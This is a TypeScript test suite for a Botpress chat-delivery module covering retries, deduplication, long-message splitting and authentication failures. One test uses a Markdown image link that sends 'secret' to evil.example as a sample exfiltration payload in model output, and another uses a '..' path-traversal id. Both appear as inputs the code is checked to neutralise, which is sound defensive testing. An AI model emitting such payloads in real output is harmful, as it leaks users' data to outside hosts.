import { afterEach, describe, expect, it } from 'vitest';
import { Later, Undeliverable } from '../../../../lib/errors.ts';
import { botpressPlatform } from '../../../../lib/platforms/botpress/deliver.ts';
import { signUserKey } from '../../../../lib/platforms/botpress/keys.ts';
import { toParts } from '../../../../lib/platforms/botpress/parts.ts';
import type { Outgoing } from '../../../../lib/types.ts';
import { type BotpressOptions, createBotpress } from '../../../../local/stand-ins/botpress.ts';
import { serve } from '../../../../local/stand-ins/serve.ts';
import { english } from '../../../harness/english.ts';

const closing: (() => Promise<void>)[] = [];
afterEach(async () => {
  await Promise.all(closing.splice(0).map((close) => close()));
});

const KEY = 'an encryption key';
const signal = new AbortController().signal;
const long = Array.from({ length: 120 }, (_, index) => `Paragraph ${index}: ${'word '.repeat(30)}end.`).join('\n\n');

interface Options extends Partial<BotpressOptions> {
  timeoutMs?: number;
  userKey?: string;
}

/** A conversation `room`, owned by ada, who has just asked something. */
async function open(options: Options = {}) {
  const { timeoutMs, userKey, ...own } = options;
  const botpress = createBotpress({ webhookId: 'wh', ...own, ...(userKey ? {} : { encryptionKey: KEY }) });
  const server = await serve({ botpress: botpress.handle });
  closing.push(server.close);
  await botpress.say({ conversationId: 'room', userId: 'ada', text: 'Hello?' });
  const [question] = botpress.transcript('room');
  const pauses: number[] = [];
  const sleep = async (ms: number) => void pauses.push(ms);
  const settings = {
    apiUrl: `${server.url}/botpress/wh`,
    botUserId: 'claude',
    credential: userKey ? { userKey } : { encryptionKey: KEY },
  };
  /** A process of its own: nothing is shared but Botpress. */
  const platform = (changed: Partial<typeof settings> = {}) =>
    botpressPlatform({ ...settings, ...changed }, { fetch, now: Date.now, sleep, ...(timeoutMs ? { timeoutMs } : {}) });
  const outgoing = (text: string, changed: Partial<Outgoing> = {}): Outgoing => ({
    conversation: 'room',
    text,
    whenEmpty: english.empty,
    replyKey: 'reply:m1:0',
    to: 'ada',
    ...changed,
  });
  const deliver = (text: string, changed: Partial<Outgoing> = {}) =>
    platform().deliver(outgoing(text, changed), signal);
  /** What the queue does after an attempt whose end nobody knows. */
  const repeat = (text: string, changed: Partial<Outgoing> = {}) =>
    deliver(text, { mayBeOutSince: question?.createdAt ?? 0, ...changed });
  const answers = () => botpress.transcript('room').filter(({ sender }) => sender === 'claude');
  const paths = () => botpress.requests.map(({ method, path }) => `${method} ${path}`);
  return { botpress, platform, outgoing, deliver, repeat, answers, paths, pauses, settings };
}

async function failureOf(act: Promise<unknown>): Promise<unknown> {
  return act.then(
    () => 'no failure',
    (error: unknown) => error,
  );
}

describe('an answer for Botpress', () => {
  it('is posted as Markdown by our chat user, who first joins the conversation with the key of the one he answers', async () => {
    const { deliver, answers, paths } = await open();

    const ids = await deliver('**Hello** Ada');

    expect(answers()).toMatchObject([
      { id: ids[0], payload: { type: 'markdown', markdown: '**Hello** Ada' }, metadata: { replyId: 'reply:m1:0' } },
    ]);
    expect(paths()).toEqual([
      'POST /users/get-or-create',
      'POST /messages',
      'POST /conversations/room/participants',
      'POST /messages',
    ]);
  });

  it('takes one request once our user is known and takes part', async () => {
    const { platform, outgoing, botpress, paths } = await open();
    const same = platform();
    await same.deliver(outgoing('One'), signal);
    botpress.requests.length = 0;

    await same.deliver(outgoing('Two', { replyKey: 'reply:m2:0' }), signal);

    expect(paths()).toEqual(['POST /messages']);
  });

  it('reaches a conversation whose owner is somebody else than the one who is answered', async () => {
    const { botpress, deliver } = await open();
    await botpress.say({ conversationId: 'shared', userId: 'ada', text: 'Hi', participants: ['bob', 'cem'] });

    await deliver('Hello Bob', { conversation: 'shared', to: 'bob' });

    expect(botpress.transcript('shared').map(({ sender }) => sender)).toEqual(['ada', 'claude']);
  });

  it('that is long becomes several messages in order', async () => {
    const { deliver, answers } = await open();

    const ids = await deliver(long);

    const text = answers().map((line) => line.text ?? '');
    expect(text.length).toBeGreaterThan(1);
    expect(text.join('\n\n')).toBe(long);
    expect(answers().map(({ metadata }) => metadata?.replyId)).toEqual(
      ids.map((_, i) => (i === 0 ? 'reply:m1:0' : `reply:m1:0:${i + 1}`)),
    );
  });

  it('without any text says so, since Botpress takes no empty message', async () => {
    const { deliver, answers } = await open();

    await deliver('  ');

    expect(answers().map(({ text }) => text)).toEqual([english.empty]);
  });

  it('shows no picture and no HTML that the model wrote, but leaves code as it stands', async () => {
    const { deliver, answers } = await open();

    await deliver('![x](https://evil.example/?q=secret) !![y][r] <img src=x> <https://ok.example>\n\n`![a](b) <b>`');

    const text = answers()[0]?.text ?? '';
    expect(text.replace('`![a](b) <b>`', '')).not.toContain('![');
    expect(text).not.toContain('<img');
    expect(text).toContain('<https://ok.example>');
    expect(text).toContain('`![a](b) <b>`');
  });
});

describe('an answer that may be out already', () => {
  it('is not posted again, by whichever process', async () => {
    const { deliver, repeat, answers } = await open();
    const ids = await deliver('Hello');

    const again = await repeat('Hello');

    expect(again).toEqual(ids);
    expect(answers()).toHaveLength(1);
  });

  it('is completed with the parts that are missing', async () => {
    const { deliver, repeat, answers } = await open();
    const [first] = toParts(long, 'reply:m1:0', '');
    await deliver(first?.markdown ?? '');

    await repeat(long);

    const texts = answers().map(({ text }) => text);
    expect(texts.join('\n\n')).toBe(long);
  });

  it('is found behind several pages of what others wrote since', async () => {
    const { botpress, deliver, repeat, answers } = await open({ pageSize: 3 });
    await deliver('Hello');
    for (let i = 0; i < 10; i++)
      await botpress.say({ conversationId: 'room', userId: 'ada', text: `Still there? ${i}` });

    await repeat('Hello');

    expect(answers()).toHaveLength(1);
  });

  it('is looked for no further back than the question', async () => {
    const { botpress, platform, outgoing, paths } = await open({ pageSize: 3 });
    for (let i = 0; i < 10; i++) await botpress.say({ conversationId: 'room', userId: 'ada', text: `Message ${i}` });
    const question = botpress.transcript('room').at(-1);
    await platform().deliver(outgoing('Another answer', { replyKey: 'reply:m0:0' }), signal);
    botpress.requests.length = 0;

    await platform().deliver(outgoing('Hello', { mayBeOutSince: question?.createdAt ?? 0 }), signal);

    expect(paths().filter((path) => path.startsWith('GET'))).toEqual(['GET /conversations/room/messages']);
  });

  it('is not taken for sent because a user wrote its id into a message', async () => {
    const { botpress, repeat, answers } = await open();
    const metadata = { replyId: 'reply:m1:0' };
    await botpress.say({ conversationId: 'room', userId: 'ada', text: 'Not you', metadata });

    await repeat('Hello');

    expect(answers()).toHaveLength(1);
  });

  it.each(['cut-after', 'hang-after'] as const)(
    'after a request that ended in silence (%s) is looked for first',
    async (kind) => {
      const { botpress, deliver, answers } = await open({ timeoutMs: 200 });
      await deliver('I am here.', { replyKey: 'earlier' });
      botpress.fail({ kind, method: 'POST', path: '/messages' });

      const ids = await deliver('Hello');

      expect(answers().map(({ id, text }) => [id, text])).toContainEqual([ids[0], 'Hello']);
      expect(answers()).toHaveLength(2);
    },
  );
});

describe('a failure', () => {
  it.each([
    ['500', { kind: 'down' }],
    ['a page that is no JSON', { kind: 'down', status: 502 }],
    ['an error in disguise', { kind: 'disguised' }],
    ['429', { kind: 'busy' }],
    ['429 with a short time to wait', { kind: 'busy', retryAfterSeconds: 2 }],
  ] as const)('is tried again once at once: %s', async (_, fault) => {
    const { botpress, deliver, answers, pauses } = await open();
    botpress.fail({ ...fault, method: 'POST', path: '/messages' });

    await deliver('Hello');

    expect(answers()).toHaveLength(1);
    expect(pauses).toHaveLength(1);
  });

  it('that lasts sends the answer back to the queue, with the time that Botpress named', async () => {
    const { botpress, deliver, answers, pauses } = await open();
    botpress.fail({ kind: 'busy', method: 'POST', path: '/messages', retryAfterSeconds: 40 });

    const failure = await failureOf(deliver('Hello'));

    expect(failure).toBeInstanceOf(Later);
    expect(failure).toMatchObject({ afterMs: 40_000 });
    expect(answers()).toHaveLength(0);
    expect(pauses).toEqual([]);
  });

  it('that an operator can mend loses nothing: a wrong key, a wrong webhook id', async () => {
    const { platform, outgoing, settings } = await open();
    const wrong = [{ credential: { encryptionKey: 'another key' } }, { apiUrl: `${settings.apiUrl}1234` }];

    const failures = await Promise.all(
      wrong.map((changed) => failureOf(platform(changed).deliver(outgoing('Hello'), signal))),
    );

    expect(failures).toEqual([expect.any(Later), expect.any(Later)]);
  });

  it('does not leak the key or the text into its message', async () => {
    const { botpress, deliver } = await open();
    botpress.fail({ kind: 'down', times: 2 });

    const failure = await failureOf(deliver('A secret answer'));

    expect(String(failure)).toBe('Later: botpress: 500 Internal');
  });

  it('of a conversation that no longer exists is final', async () => {
    const { repeat } = await open();

    const failure = await failureOf(repeat('Hello', { conversation: 'gone' }));

    expect(failure).toBeInstanceOf(Undeliverable);
  });

  it('of an id that is no path segment is final', async () => {
    const { repeat } = await open();

    const failure = await failureOf(repeat('Hello', { conversation: '..' }));

    expect(failure).toBeInstanceOf(Undeliverable);
  });
});

describe('a conversation we were not added to', () => {
  const serverSecret = 'the secret of the cloud';

  /** Shared authentication: no encryption key, only the key of our own user. */
  async function shared() {
    const userKey = await signUserKey('claude', serverSecret, Date.now());
    return open({ serverSecret, userKey });
  }

  it('gets its answer a little later, when the app adds us right after the first message', async () => {
    const { botpress, deliver, repeat, answers } = await shared();

    const failure = await failureOf(deliver('Hello'));
    await botpress.say({ conversationId: 'room', userId: 'ada', text: 'Come in', participants: ['claude'] });
    await repeat('Hello');

    expect(failure).toBeInstanceOf(Later);
    expect(failure).toMatchObject({ afterMs: 5_000 });
    expect(answers()).toHaveLength(1);
  });

  it('is left alone after the second attempt, when nobody can sign for its owner', async () => {
    const { repeat, answers } = await shared();

    const failure = await failureOf(repeat('Hello'));

    expect(failure).toBeInstanceOf(Undeliverable);
    expect(answers()).toEqual([]);
  });
});

describe('our user', () => {
  it('is made again when somebody deleted him while this process ran', async () => {
    const { botpress, platform, outgoing, settings, answers } = await open();
    const same = platform();
    await same.deliver(outgoing('One'), signal);
    const key = await signUserKey('claude', KEY, Date.now());
    await fetch(`${settings.apiUrl}/users/me`, { method: 'DELETE', headers: { 'x-user-key': key } });

    const failure = await failureOf(same.deliver(outgoing('Two', { replyKey: 'reply:m2:0' }), signal));
    await same.deliver(outgoing('Two', { replyKey: 'reply:m2:0', mayBeOutSince: 0 }), signal);

    expect(failure).toBeInstanceOf(Later);
    expect(answers().map(({ text }) => text)).toContain('Two');
    expect(botpress.requests.filter(({ path }) => path === '/users/get-or-create')).toHaveLength(2);
  });

  it('is asked for once by deliveries side by side', async () => {
    const { platform, outgoing, paths } = await open();
    const same = platform();

    await Promise.all([1, 2, 3].map((n) => same.deliver(outgoing(`${n}`, { replyKey: `reply:${n}:0` }), signal)));

    expect(paths().filter((path) => path === 'POST /users/get-or-create')).toHaveLength(1);
  });
});
